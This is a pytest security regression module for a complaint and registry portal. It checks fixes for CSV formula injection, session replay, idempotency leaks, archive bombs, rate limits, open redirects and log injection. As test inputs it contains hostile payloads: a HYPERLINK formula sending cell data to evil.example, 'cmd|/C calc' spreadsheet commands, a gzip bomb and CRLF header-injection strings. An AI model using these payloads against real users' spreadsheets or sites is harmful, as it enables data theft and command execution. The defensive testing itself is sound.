"""Security round 2 (issue #13): each attack found on the running portal, replayed.

Every test here sends what the attacker sent and states what the portal must do
instead; each failed before its fix.

Longer than a module should be, on purpose: it follows the issue's list in order
(sections by severity, one test per finding), so that the report and its proof read
side by side; the shared fixtures live in tests/conftest.py.
"""

from __future__ import annotations

import csv
import gzip
import io
import multiprocessing
import time
import zipfile
import re
import sqlite3
from datetime import datetime, timedelta, timezone
from email.utils import parsedate_to_datetime
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import quote

import pytest

from app import create_app
from portal.csv_export import export_csv, neutralise_cell
from portal.database import close_store, open_store
from portal.storage import registry_files, registry_import
from portal.storage import staff as staff_store
from portal.storage.db import connect
from portal.storage.demo import cnpj_with_check_digits, formatted_cnpj
from portal.storage.registry_import import ImportFileError, import_registry

PASSWORD = "senha-muito-segura-2026"


@pytest.fixture()
def app(tmp_path, index_dir):
    return create_app({"DATA_DIR": str(tmp_path), "INDEX_DIR": str(index_dir), "TESTING": True, "WTF_CSRF_ENABLED": False})


def _staff(app, username: str = "fiscal") -> None:
    db = connect(app.config["DATA_DIR"] + "/portal.db")
    staff_store.create_user(db, username, PASSWORD)
    db.conn.close()


def _login(client, username: str = "fiscal"):
    response = client.post("/admin/entrar", data={"usuario": username, "senha": PASSWORD})
    assert response.status_code == 303
    return response


# -- High: formula injection in the CSV export ---------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clique")',
    '@SUM(1+9)*cmd|"/C calc"!A0',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


def test_csv_export_neutralises_every_formula_cell(app):
    client = app.test_client()
    protocols = []
    for text in FORMULAS:
        body = {"data_ocorrencia": "2026-11-01", "ocorrencias": ["outro"], "jurisdicao": "pe", "relato": "relato " + text,
                "origem": text, "destino": text}
        response = client.post("/api/v1/denuncias", json=body)
        assert response.status_code == 201, response.get_json()
        protocols.append(response.get_json()["protocolo"])
    _staff(app)
    _login(client)
    export = client.get("/admin/exportar.csv")
    assert export.status_code == 200 and export.mimetype == "text/csv"
    text = export.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["protocolo"] for r in rows] == protocols
    for row in rows:
        for name, cell in row.items():
            first = cell.lstrip(" \u00a0\u3000")[:1]
            assert first not in set("=+-@\t\r\n＝＋－＠"), (name, cell)
    # The text is kept after the quote (the parser trims blanks at the ends), so staff still read what was typed.
    stripped = [text.strip() for text in FORMULAS]
    assert [r["origem"] for r in rows] == ["'" + s for s in stripped]
    # Every cell is quoted (RFC 4180), so a comma or a line break cannot open a new cell.
    for line in text.splitlines()[:2]:
        assert line.startswith('"') and line.endswith('"')


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+55 81 9999", "'+55 81 9999"), ("-", "'-"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\nx"),
    (" =x", "' =x"), ("＠x", "'＠x"), ("a=b", "a=b"), ("", ""), (None, ""), (3, "3"), ("'=x", "'=x"),
])
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected


def test_export_csv_quotes_every_cell_and_escapes_quotes():
    body = export_csv([{"a": 'x","=cmd', "b": "linha\nnova"}], ["a", "b"])
    assert body == '"a","b"\r\n"x"",""=cmd","linha\nnova"\r\n'
    assert list(csv.reader(io.StringIO(body))) == [["a", "b"], ['x","=cmd', "linha\nnova"]]


# -- Medium: staff sessions ------------------------------------------------------------------------


def _complaint_with_contact(client) -> None:
    body = {"data_ocorrencia": "2026-11-01", "ocorrencias": ["porta_aberta"], "jurisdicao": "pe",
            "contato": {"email": "testemunha@example.com"}, "consentimento": True}
    assert client.post("/api/v1/denuncias", json=body).status_code == 201


def test_staff_cookie_lives_at_most_the_absolute_limit_and_is_not_renewed_on_every_request(app):
    _staff(app)
    client = app.test_client()
    login = _login(client)
    cookie = login.headers["Set-Cookie"]
    expires = parsedate_to_datetime(re.search(r"Expires=([^;]+)", cookie).group(1))
    lifetime = expires - datetime.now(timezone.utc)
    assert timedelta(hours=7, minutes=59) < lifetime <= timedelta(hours=8)
    for url in ("/admin/", "/admin/auditoria"):
        response = client.get(url)
        assert response.status_code == 200 and "Set-Cookie" not in response.headers


def test_a_cookie_saved_before_logout_is_refused_afterwards(app):
    _staff(app)
    client = app.test_client()
    _complaint_with_contact(client)
    _login(client)
    saved = client.get_cookie("session").value
    assert "testemunha@example.com" in client.get("/admin/denuncias/1?contato=1").get_data(as_text=True)
    assert client.post("/admin/sair").status_code == 303
    attacker = app.test_client()
    attacker.set_cookie("session", saved)
    for url in ("/admin/", "/admin/denuncias/1?contato=1", "/admin/exportar.csv"):
        replay = attacker.get(url)
        assert replay.status_code == 302 and replay.headers["Location"].startswith("/admin/entrar"), url
    assert attacker.post("/admin/denuncias/1/situacao", data={"situacao": "arquivada"}).status_code == 401
    db = connect(app.config["DATA_DIR"] + "/portal.db")
    assert db.execute("SELECT situacao FROM complaints WHERE id = 1").fetchone()[0] == "recebida"
    assert db.execute("SELECT COUNT(*) FROM staff_sessions").fetchone()[0] == 0
    actions = [r[0] for r in db.execute("SELECT acao FROM audit_log ORDER BY id")]
    assert actions == ["login", "viu_contato", "logout"]


@pytest.mark.parametrize("column, age, reason", [("ultimo_uso", timedelta(minutes=31), "ociosa"), ("criada_em", timedelta(hours=8, seconds=1), "absoluta")])
def test_sessions_expire_when_idle_and_after_the_absolute_limit(app, column, age, reason):
    _staff(app)
    client = app.test_client()
    _login(client)
    assert client.get("/admin/").status_code == 200
    db = connect(app.config["DATA_DIR"] + "/portal.db")
    past = (datetime.now(timezone.utc) - age).replace(microsecond=0).isoformat()
    db.execute(f"UPDATE staff_sessions SET {column} = ?", [past])
    response = client.get("/admin/")
    assert response.status_code == 302 and response.headers["Location"].startswith("/admin/entrar")
    assert db.execute("SELECT COUNT(*) FROM staff_sessions").fetchone()[0] == 0
    assert db.execute("SELECT acao, detalhes FROM audit_log ORDER BY id DESC LIMIT 1").fetchone() == ("sessao_expirou", reason)


def test_a_session_in_use_stays_open_and_records_its_last_use_at_most_once_a_minute(app):
    _staff(app)
    client = app.test_client()
    _login(client)
    db = connect(app.config["DATA_DIR"] + "/portal.db")
    recent = (datetime.now(timezone.utc) - timedelta(minutes=29)).replace(microsecond=0).isoformat()
    db.execute("UPDATE staff_sessions SET ultimo_uso = ?", [recent])
    assert client.get("/admin/").status_code == 200
    touched = db.execute("SELECT ultimo_uso FROM staff_sessions").fetchone()[0]
    assert touched > recent
    assert client.get("/admin/").status_code == 200
    assert db.execute("SELECT ultimo_uso FROM staff_sessions").fetchone()[0] == touched


# -- Medium: Idempotency-Key ------------------------------------------------------------------------

BODY_A = {"data_ocorrencia": "2026-11-01", "ocorrencias": ["porta_aberta"], "jurisdicao": "pe", "relato": "primeira"}
BODY_B = {"data_ocorrencia": "2026-11-02", "ocorrencias": ["sem_autorizacao"], "jurisdicao": "sp", "relato": "segunda"}


def _count(app) -> int:
    db = connect(app.config["DATA_DIR"] + "/portal.db")
    return db.execute("SELECT COUNT(*) FROM complaints").fetchone()[0]


def test_same_key_same_body_same_client_is_a_retry(app):
    client = app.test_client()
    first = client.post("/api/v1/denuncias", json=BODY_A, headers={"Idempotency-Key": "k1"})
    again = client.post("/api/v1/denuncias", json={**BODY_A, "relato": "  primeira  "}, headers={"Idempotency-Key": "k1"})
    assert (first.status_code, again.status_code) == (201, 200)
    assert again.get_json()["protocolo"] == first.get_json()["protocolo"]
    assert _count(app) == 1


def test_a_used_key_with_another_body_is_refused_and_nothing_is_lost(app):
    client = app.test_client()
    first = client.post("/api/v1/denuncias", json=BODY_A, headers={"Idempotency-Key": "k1"})
    other = client.post("/api/v1/denuncias", json=BODY_B, headers={"Idempotency-Key": "k1"})
    assert other.status_code == 422
    data = other.get_json()
    assert data["field"] == "Idempotency-Key" and "protocolo" not in data and first.get_json()["protocolo"] not in other.get_data(as_text=True)
    assert _count(app) == 1
    resent = client.post("/api/v1/denuncias", json=BODY_B, headers={"Idempotency-Key": "k2"})
    assert resent.status_code == 201 and _count(app) == 2


def test_another_clients_key_never_reveals_the_first_result(app):
    victim = app.test_client()
    attacker = app.test_client()
    first = victim.post("/api/v1/denuncias", json=BODY_A, headers={"Idempotency-Key": "k1"}, environ_base={"REMOTE_ADDR": "198.51.100.7"})
    probe = attacker.post("/api/v1/denuncias", json=BODY_A, headers={"Idempotency-Key": "k1"}, environ_base={"REMOTE_ADDR": "203.0.113.9"})
    assert (first.status_code, probe.status_code) == (201, 201)
    assert probe.get_json()["protocolo"] != first.get_json()["protocolo"]
    # ... and a different body from the other client is stored too, not answered with 422.
    third = attacker.post("/api/v1/denuncias", json=BODY_B, headers={"Idempotency-Key": "k1"}, environ_base={"REMOTE_ADDR": "203.0.113.10"})
    assert third.status_code == 201 and _count(app) == 3
    stored = connect(app.config["DATA_DIR"] + "/portal.db").execute("SELECT chave_idempotencia FROM complaints").fetchall()
    assert all(len(k) == 64 and "k1" not in k and "198.51" not in k for (k,) in stored)


def test_keys_older_than_the_window_are_forgotten(app):
    client = app.test_client()
    client.post("/api/v1/denuncias", json=BODY_A, headers={"Idempotency-Key": "k1"})
    db = connect(app.config["DATA_DIR"] + "/portal.db")
    db.execute("UPDATE complaints SET criada_em = ?", [(datetime.now(timezone.utc) - timedelta(hours=25)).replace(microsecond=0).isoformat()])
    again = client.post("/api/v1/denuncias", json=BODY_B, headers={"Idempotency-Key": "k1"})
    assert again.status_code == 201 and _count(app) == 2
    assert db.execute("SELECT COUNT(*) FROM complaints WHERE chave_idempotencia IS NOT NULL").fetchone()[0] == 1


def test_the_form_sent_again_with_other_data_is_refused_and_keeps_what_was_typed(app):
    client = app.test_client()
    form = {"jurisdicao": "pe", "data_ocorrencia": "2026-11-01", "ocorrencias": "porta_aberta", "chave": "form-1"}
    assert client.post("/denuncia", data=form).status_code == 303
    edited = client.post("/denuncia", data={**form, "relato": "texto novo que não pode sumir"})
    html = edited.get_data(as_text=True)
    assert edited.status_code == 422 and "texto novo que não pode sumir" in html and "Nada foi registrado agora" in html
    assert 'value="form-1"' not in html and _count(app) == 1


# -- Medium: registry upload ------------------------------------------------------------------------

CNPJ = formatted_cnpj(cnpj_with_check_digits("112223330001"))
OPS = "cnpj,razao_social,nome_fantasia,jurisdicao,crc_numero,crc_emissao,crc_validade,situacao,modalidades,telefone,email\n" \
      f"{CNPJ},Rota Turismo,Rota,pe,CRC-1,,2030-01-10,ativo,,,\n"
VEH_HEADER = "placa,cnpj,tipo,lugares,ano_fabricacao,vistoria_validade,seguro_validade,situacao\n"


def _vehicles(n: int) -> str:
    return VEH_HEADER + "".join(f"QUA{i:04d},{CNPJ},onibus,44,2019,2030-03-01,2030-05-10,ativo\n" for i in range(n))


@pytest.fixture()
def csrf_app(tmp_path, index_dir):
    return create_app({"DATA_DIR": str(tmp_path), "INDEX_DIR": str(index_dir), "TESTING": True, "WTF_CSRF_ENABLED": True})


def _token(client, url: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', client.get(url).get_data(as_text=True)).group(1)


def _csrf_login(client) -> None:
    token = _token(client, "/admin/entrar")
    assert client.post("/admin/entrar", data={"usuario": "fiscal", "senha": PASSWORD, "csrf_token": token}).status_code == 303


def _upload(client, operators: bytes, vehicles: bytes, names=("o.csv", "v.csv")):
    token = _token(client, "/admin/registro")
    return client.post("/admin/registro", content_type="multipart/form-data",
                       data={"csrf_token": token, "operadoras": (io.BytesIO(operators), names[0]), "veiculos": (io.BytesIO(vehicles), names[1])})


def test_staff_can_upload_a_registry_larger_than_the_global_body_limit(csrf_app):
    _staff(csrf_app)
    client = csrf_app.test_client()
    _csrf_login(client)
    vehicles = _vehicles(3000).encode()
    assert len(vehicles) > 3 * 64 * 1024
    response = _upload(client, OPS.encode(), vehicles)
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert "Cadastro substituído" in response.get_data(as_text=True)
    assert client.get("/api/v1/veiculos/QUA2999").get_json()["situacao"] == "regular"


def test_the_large_limit_is_only_for_signed_in_staff_and_has_its_own_ceiling(csrf_app):
    client = csrf_app.test_client()
    big = {"operadoras": (io.BytesIO(OPS.encode()), "o.csv"), "veiculos": (io.BytesIO(_vehicles(3000).encode()), "v.csv")}
    assert client.post("/admin/registro", data=big, content_type="multipart/form-data").status_code == 413
    _staff(csrf_app)
    _csrf_login(client)
    csrf_app.config["REGISTRY_MAX_UPLOAD"] = 100 * 1024
    assert _upload(client, OPS.encode(), _vehicles(3000).encode()).status_code == 413
    assert client.get("/api/v1/veiculos/QUA0001").get_json()["situacao"] == "nao_encontrado"


def test_a_gzip_bomb_is_refused_and_the_registry_kept(csrf_app):
    _staff(csrf_app)
    client = csrf_app.test_client()
    _csrf_login(client)
    bomb = gzip.compress(VEH_HEADER.encode() + b"0" * (64 * 1024 * 1024), compresslevel=9)
    assert len(bomb) < 64 * 1024
    response = _upload(client, OPS.encode(), bomb, names=("o.csv", "v.csv.gz"))
    assert response.status_code == 400 and "se expande mais de 50 vezes" in response.get_data(as_text=True)
    assert connect(csrf_app.config["DATA_DIR"] + "/portal.db").execute("SELECT COUNT(*) FROM vehicles").fetchone()[0] == 0


def test_compressed_registries_are_read(db):
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("veiculos.csv", _vehicles(50))
    report = import_registry(db, io.BytesIO(gzip.compress(OPS.encode())), io.BytesIO(zipped.getvalue()))
    assert report.replaced and (report.operators, report.vehicles) == (1, 50)


def _zip(members: dict[str, bytes]) -> io.BytesIO:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    out.seek(0)
    return out


@pytest.mark.parametrize("vehicles, message", [
    (lambda: _zip({"v.csv": VEH_HEADER.encode() + b"0" * (32 * 1024 * 1024)}), "grande demais ou comprimido demais"),
    (lambda: _zip({"a.csv": b"x", "b.csv": b"y"}), "exatamente um arquivo CSV"),
    (lambda: io.BytesIO(b"PK\x03\x04" + b"\x00" * 100), ".zip danificado"),
    (lambda: io.BytesIO(gzip.compress(b"placa," + b"x" * 200_000)), "arquivo ilegível"),
    (lambda: io.BytesIO(VEH_HEADER.encode() + b"QUA0001,\xff\xfe\n"), "não está em UTF-8"),
])
def test_bad_archives_are_refused_with_a_reason(db, vehicles, message):
    with pytest.raises(ImportFileError, match=re.escape(message)):
        import_registry(db, io.BytesIO(OPS.encode()), vehicles())


def test_a_huge_field_is_refused_whatever_the_csv_modules_global_limit(db):
    """csv.field_size_limit is process-wide and frictionless raises it on import: the
    reader keeps its own limit, so the answer does not depend on what was imported."""
    previous = csv.field_size_limit(2**31 - 1)
    try:
        for vehicles in (b"placa," + b"x" * 200_000, VEH_HEADER.encode() + b"QUA0001," + b"x" * 200_000 + b",onibus,44,2019,2030-01-01,2030-01-01,ativo\n"):
            with pytest.raises(ImportFileError, match="arquivo ilegível"):
                import_registry(db, io.BytesIO(OPS.encode()), io.BytesIO(vehicles))
    finally:
        csv.field_size_limit(previous)


def test_oversized_csv_is_refused_after_decompression(db, monkeypatch):
    monkeypatch.setattr(registry_files, "MAX_CSV_BYTES", 256 * 1024)
    big = gzip.compress(_vehicles(5000).encode())
    with pytest.raises(ImportFileError, match="arquivo grande demais"):
        import_registry(db, io.BytesIO(OPS.encode()), io.BytesIO(big))


class _NoWholeRead(io.BytesIO):
    def read(self, size=-1):
        assert size is not None and size >= 0, "the import must read the upload in chunks"
        return super().read(size)

    def read1(self, size=-1):
        return self.read(size if size is not None and size >= 0 else 65536)


def test_the_import_streams_the_file(db):
    report = import_registry(db, _NoWholeRead(OPS.encode()), _NoWholeRead(_vehicles(2000).encode()))
    assert report.replaced and report.vehicles == 2000


def test_only_the_first_rejections_are_kept_in_memory(db):
    report = import_registry(db, io.BytesIO(OPS.encode()), io.BytesIO((VEH_HEADER + "x\n" * 5000).encode()))
    assert report.rejected_count == 5000 and len(report.rejected) == registry_import.MAX_REPORTED


# -- Medium: rate limits shared by the workers of one machine -------------------------------------


def _worker_hits(data_dir: str, index_dir: str, n: int, start, results) -> None:
    worker = create_app({"DATA_DIR": data_dir, "INDEX_DIR": index_dir, "TESTING": True, "RATELIMIT_ENABLED": True})
    client = worker.test_client()
    start.wait()
    results.put([client.get("/api/v1/veiculos/ABC1234").status_code for _ in range(n)])


@pytest.mark.drill
def test_rate_limits_hold_across_worker_processes(tmp_path, index_dir):
    """Four processes on one data dir stand for gunicorn's workers: together they get the
    documented 60 lookups a minute, not 60 each (memory:// counted per process)."""
    ctx = multiprocessing.get_context("fork")
    start, results = ctx.Event(), ctx.Queue()
    workers = [ctx.Process(target=_worker_hits, args=(str(tmp_path), str(index_dir), 40, start, results)) for _ in range(4)]
    for w in workers:
        w.start()
    start.set()
    statuses = [s for _ in workers for s in results.get(timeout=120)]
    for w in workers:
        w.join(timeout=30)
    assert len(statuses) == 160
    assert statuses.count(200) == 60 and statuses.count(429) == 100


@pytest.mark.drill
def test_sqlite_counter_is_atomic_across_processes(tmp_path):
    from limits.storage import storage_from_string

    uri = "sqlite://" + str(tmp_path / "ratelimit.db")
    ctx = multiprocessing.get_context("fork")
    workers = [ctx.Process(target=_incr_many, args=(uri, 200)) for _ in range(4)]
    for w in workers:
        w.start()
    for w in workers:
        w.join(timeout=60)
    storage = storage_from_string(uri)
    assert storage.get("k") == 800
    assert 0 < storage.get_expiry("k") - time.time() <= 60
    storage.clear("k")
    assert storage.get("k") == 0


def _incr_many(uri: str, n: int) -> None:
    from limits.storage import storage_from_string

    storage = storage_from_string(uri)
    for _ in range(n):
        storage.incr("k", 60)


def test_an_expired_window_starts_again(tmp_path):
    from limits.storage import storage_from_string

    storage = storage_from_string("sqlite://" + str(tmp_path / "ratelimit.db"))
    assert [storage.incr("w", 1) for _ in range(3)] == [1, 2, 3]
    time.sleep(1.05)
    assert storage.get("w") == 0 and storage.incr("w", 1) == 1


def test_the_default_store_is_the_shared_file_and_a_configured_one_wins(tmp_path, index_dir, monkeypatch):
    app = create_app({"DATA_DIR": str(tmp_path), "INDEX_DIR": str(index_dir), "TESTING": True})
    assert app.config["RATELIMIT_STORAGE_URI"] == "sqlite://" + str(tmp_path.resolve() / "ratelimit.db")
    monkeypatch.setenv("RATELIMIT_STORAGE_URI", "memory://")
    other = create_app({"DATA_DIR": str(tmp_path), "INDEX_DIR": str(index_dir), "TESTING": True})
    assert other.config["RATELIMIT_STORAGE_URI"] == "memory://"


def test_the_rate_limit_store_holds_no_client_address(tmp_path, index_dir):
    """The counters are keyed by an HMAC of the address with the secret key: the file has
    no IP in it, and two clients still count apart."""
    app = create_app({"DATA_DIR": str(tmp_path), "INDEX_DIR": str(index_dir), "TESTING": True, "RATELIMIT_ENABLED": True,
                      "SECRET_KEY": "chave-do-teste"})
    client = app.test_client()
    first = [client.get("/api/v1/veiculos/ABC1234", environ_base={"REMOTE_ADDR": "203.0.113.77"}).status_code for _ in range(61)]
    other = client.get("/api/v1/veiculos/ABC1234", environ_base={"REMOTE_ADDR": "198.51.100.23"}).status_code
    assert (first.count(200), first[-1], other) == (60, 429, 200)
    raw = (tmp_path / "ratelimit.db").read_bytes() + b"".join(p.read_bytes() for p in tmp_path.glob("ratelimit.db-*"))
    assert b"203.0.113.77" not in raw and b"198.51.100.23" not in raw
    with app.test_request_context(environ_base={"REMOTE_ADDR": "203.0.113.77"}):
        from portal.security import client_key, keyed_digest

        assert client_key() == keyed_digest("limite", "203.0.113.77")
        expected = client_key()
    keys = [row[0] for row in sqlite3.connect(tmp_path / "ratelimit.db").execute("SELECT key FROM counters")]
    assert len(keys) == 4 and sum(expected in key for key in keys) == 2  # a minute and an hour window each


# -- Low: lockout without user enumeration -----------------------------------------------------------


def _attempt(client, user: str, password: str, address: str):
    return client.post("/admin/entrar", data={"usuario": user, "senha": password}, environ_base={"REMOTE_ADDR": address})


def test_an_attacker_cannot_lock_a_colleague_out_from_elsewhere(app):
    _staff(app)
    client = app.test_client()
    for _ in range(6):
        assert _attempt(client, "fiscal", "chute", "203.0.113.9").status_code == 401
    assert "Conta bloqueada" in _attempt(client, "fiscal", PASSWORD, "203.0.113.9").get_data(as_text=True)
    assert _attempt(app.test_client(), "fiscal", PASSWORD, "198.51.100.7").status_code == 303
    stored = connect(app.config["DATA_DIR"] + "/portal.db").execute("SELECT cliente FROM login_failures").fetchall()
    assert stored and all("203.0.113.9" not in c and len(c) == 64 for (c,) in stored)


@pytest.mark.drill
def test_unknown_and_real_names_get_the_same_answers(app):
    _staff(app)
    client = app.test_client()
    real = [_attempt(client, "fiscal", "chute", "203.0.113.9") for _ in range(7)]
    unknown = [_attempt(client, "fantasma", "chute", "203.0.113.9") for _ in range(7)]
    assert [r.status_code for r in real] == [r.status_code for r in unknown] == [401] * 7
    # Identical pages, but for the CSRF token's signing time.
    page = lambda r: re.sub(r'name="csrf_token" value="[^"]+"', "", r.get_data(as_text=True))  # noqa: E731
    assert [page(r) for r in real] == [page(r) for r in unknown]
    assert "Conta bloqueada" in real[-1].get_data(as_text=True)


@pytest.mark.drill
def test_every_attempt_computes_one_password_hash(app, monkeypatch):
    """Equal work for an unknown name, a wrong password and a locked pair, so the answer's
    timing does not tell them apart (the lock used to answer before hashing)."""
    import portal.storage.staff as staff_module

    calls = []
    real_check = staff_module.check_password_hash
    monkeypatch.setattr(staff_module, "check_password_hash", lambda h, p: calls.append(h) or real_check(h, p))
    _staff(app)
    client = app.test_client()
    for user in ["fiscal"] * 7 + ["fantasma"] * 7:
        before = len(calls)
        _attempt(client, user, "chute", "203.0.113.9")
        assert len(calls) == before + 1


# -- Low: bad JSON, lone surrogates --------------------------------------------------------------------

DEEP = "[" * 2000 + "]" * 2000


@pytest.mark.parametrize("url, body", [
    ("/api/v1/assistente", '{"mensagem": ' + DEEP + "}"),
    ("/api/v1/wizards/modalidade", '{"answers": ' + DEEP + "}"),
    ("/api/v1/denuncias", '{"data_ocorrencia": "2026-11-01", "ocorrencias": ' + DEEP + "}"),
    ("/api/v1/assistente", DEEP),
    ("/api/v1/assistente", '{"mensagem": "oi", "conversa": ' + '{"a":' * 40 + "1" + "}" * 40 + "}"),
    ("/api/v1/assistente", '{"mensagem": "placa \\ud800"}'),
    ("/api/v1/denuncias", '{"data_ocorrencia": "2026-11-01", "ocorrencias": ["outro"], "relato": "x\\udc00y"}'),
    ("/api/v1/denuncias", '{"data_ocorrencia": "2026-11-01", "ocorrencias": ["porta_aberta"], "consentimento": true, "contato": {"nome": "\\ud83d"}}'),
    ("/api/v1/denuncias", '{"data_ocorrencia": "2026-11-01", "ocorrencias": ["porta_aberta"], "\\udfff": 1}'),
])
def test_deep_or_invalid_text_json_is_a_400(app, url, body):
    response = app.test_client().post(url, data=body, content_type="application/json")
    assert response.status_code == 400
    assert response.get_json()["error"]


def test_a_valid_surrogate_pair_is_still_text(app):
    response = app.test_client().post("/api/v1/denuncias", content_type="application/json",
                                      data='{"data_ocorrencia": "2026-11-01", "ocorrencias": ["outro"], "jurisdicao": "pe", "relato": "van lotada \\ud83d\\ude8c"}')
    assert response.status_code == 201


# -- Low: next= and Host in redirects, the 404 page's language links ----------------------------------


@pytest.mark.parametrize("target", ["/admin/\r\nSet-Cookie: x=1", "/admin/%0d%0a", "//evil.example/admin", "/admin/\\evil", "https://evil.example/admin",
                                    "/admin\x00", "/\\evil.example", "/administrador"])
def test_next_never_leaves_the_staff_area_nor_breaks_the_redirect(app, target):
    _staff(app)
    response = app.test_client().post("/admin/entrar?next=" + quote(target, safe=""), data={"usuario": "fiscal", "senha": PASSWORD})
    assert response.status_code == 303
    assert response.headers["Location"] == ("/admin/%0d%0a" if target == "/admin/%0d%0a" else "/admin/")


def test_a_good_next_is_followed(app):
    _staff(app)
    response = app.test_client().post("/admin/entrar?next=/admin/registro", data={"usuario": "fiscal", "senha": PASSWORD})
    assert response.headers["Location"] == "/admin/registro"


@pytest.mark.parametrize("headers", [{"Host": "evil.example"}, {"X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https"}])
def test_redirects_never_carry_the_requests_host(tmp_path, index_dir, headers):
    app = create_app({"DATA_DIR": str(tmp_path), "INDEX_DIR": str(index_dir), "TESTING": True, "BEHIND_PROXY": True, "WTF_CSRF_ENABLED": False})
    client = app.test_client()
    for url in ("/admin", "/admin/", "/assistente/recomecar"):
        response = client.get(url, headers=headers) if url != "/assistente/recomecar" else client.post(url, headers=headers)
        assert response.status_code in (302, 303, 308), url
        location = response.headers["Location"]
        assert "evil" not in location and location.startswith("/") and not location.startswith("//"), (url, location)


def test_redirects_on_the_configured_base_url_are_kept(tmp_path, index_dir):
    from portal.security import safe_location

    base = "https://embarquelegal.example.gov.br"
    assert safe_location(base + "/admin/", base) == base + "/admin/"
    assert safe_location("http://evil.example/admin/?a=1#x", base) == "/admin/?a=1#x"
    assert safe_location("//evil.example/x", base) == "/x"
    assert safe_location("/\\evil.example", base) == "/evil.example"
    assert safe_location("/admin/entrar?next=/admin/", base) == "/admin/entrar?next=/admin/"


def test_language_links_on_a_404_stay_on_the_site(app):
    html = app.test_client().get("/\\evil.example").get_data(as_text=True)
    links = re.findall(r'href="([^"]*lang=[^"]*)"', html)
    assert len(links) == 3
    for link in links:
        assert link.startswith("/evil.example?lang="), link
    html = app.test_client().get("/%0d%0a//evil").get_data(as_text=True)
    assert all(link.startswith("/%0D%0A//evil?lang=") for link in re.findall(r'href="([^"]*lang=[^"]*)"', html))


# -- Low: access log --------------------------------------------------------------------------------


@pytest.mark.parametrize("path, logged", [
    ("/busca\r\n127.0.0.1 - forged 200", "/busca\\x0d\\x0a127.0.0.1 - forged 200"),
    ("/x\x00y", "/x\\x00y"),
    ("/api/v1/veiculos/KGT2E47", "/api/v1/veiculos/<placa>"),
    ("/api/v1/veiculos/kgt-2e47", "/api/v1/veiculos/<placa>"),
    ("/api/v1/veiculos/qualquer-coisa", "/api/v1/veiculos/<placa>"),
    ("/denuncia/EL-2026-7KQ4-M9XH-2R8C", "/denuncia/<protocolo>"),
    ("/api/v1/denuncias/EL-2026-7KQ4-M9XH-2R8C", "/api/v1/denuncias/<protocolo>"),
    ("/nao-existe/ABC1234/EL-2026-AAAA-BBBB-CCCC", "/nao-existe/<placa>/<protocolo>"),
    ("/leis/pe-lei-16205-2017/art-3", "/leis/pe-lei-16205-2017/art-3"),
])
def test_access_log_path(path, logged):
    from portal.access_log import safe_path

    assert safe_path(path) == logged


def test_gunicorn_access_log_line_is_one_line_without_plate_or_query(tmp_path):
    import logging
    from datetime import timedelta as td
    from types import SimpleNamespace

    from gunicorn.config import Config

    from portal.access_log import AccessLogger

    cfg = Config()
    cfg.set("accesslog", str(tmp_path / "access.log"))
    cfg.set("access_log_format", '%(h)s %(t)s "%(r)s" "%(m)s %(U)s %(H)s" %(s)s %(f)s %(q)s')
    logger = AccessLogger(cfg)
    environ = {"REQUEST_METHOD": "GET", "RAW_URI": "/api/v1/veiculos/KGT2E47?placa=KGT2E47", "SERVER_PROTOCOL": "HTTP/1.1",
               "PATH_INFO": "/api/v1/veiculos/KGT2E47/x\r\nforged", "QUERY_STRING": "placa=KGT2E47", "REMOTE_ADDR": "10.0.0.1",
               "HTTP_REFERER": "https://x.example/consulta?placa=KGT2E47"}
    logger.access(SimpleNamespace(status="200 OK", sent=10, headers=[]), SimpleNamespace(headers=[]), environ, td(milliseconds=3))
    for handler in logger.access_log.handlers:
        handler.flush()
    text = (tmp_path / "access.log").read_text()
    assert text.count("\n") == 1 and "KGT2E47" not in text and "forged" in text
    assert '"GET /api/v1/veiculos/<placa>/x\\x0d\\x0aforged HTTP/1.1"' in text
    logging.shutdown()


def test_the_complaint_log_line_has_no_protocol(app, caplog):
    caplog.set_level("INFO")
    created = app.test_client().post("/api/v1/denuncias", json=BODY_A).get_json()
    assert "complaint received #1 (pe)" in caplog.text and created["protocolo"] not in caplog.text


# -- Low: /saude when writes fail ---------------------------------------------------------------------


def test_health_reports_a_read_only_disk(tmp_path, index_dir, monkeypatch):
    app = create_app({"DATA_DIR": str(tmp_path), "INDEX_DIR": str(index_dir), "TESTING": True})
    import portal.database as database

    monkeypatch.setattr(database, "connect", lambda path, readonly=False: connect(path, readonly=True))
    response = app.test_client().get("/saude")
    data = response.get_json()
    assert response.status_code == 503 and data["status"] == "degradado"
    assert data["checks"]["gravacao"]["ok"] is False and "readonly" in data["checks"]["gravacao"]["erro"]
    assert data["checks"]["banco"]["ok"] is True and data["checks"]["indice"]["ok"] is True


def test_health_reports_a_full_disk(tmp_path, index_dir, monkeypatch):
    app = create_app({"DATA_DIR": str(tmp_path), "INDEX_DIR": str(index_dir), "TESTING": True})
    import portal.health as health

    monkeypatch.setattr(health.shutil, "disk_usage", lambda path: SimpleNamespace(total=10**9, used=10**9 - 5 * 1024 * 1024, free=5 * 1024 * 1024))
    response = app.test_client().get("/saude")
    assert response.status_code == 503
    assert response.get_json()["checks"]["gravacao"] == {"ok": False, "livre_mb": 5, "erro": "disco quase cheio: 5 MB livres"}


def test_health_reports_sqlite_full(tmp_path, index_dir, monkeypatch):
    """SQLite's own 'database or disk is full' (max_page_count reached stands for the disk)."""
    app = create_app({"DATA_DIR": str(tmp_path), "INDEX_DIR": str(index_dir), "TESTING": True})
    import portal.database as database

    def full(path, readonly=False):
        db = connect(path, readonly=readonly)
        db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        pages = db.execute("PRAGMA page_count").fetchone()[0]
        db.execute(f"PRAGMA max_page_count = {pages}")
        db.execute("PRAGMA journal_mode = DELETE")
        return db

    monkeypatch.setattr(database, "connect", full)
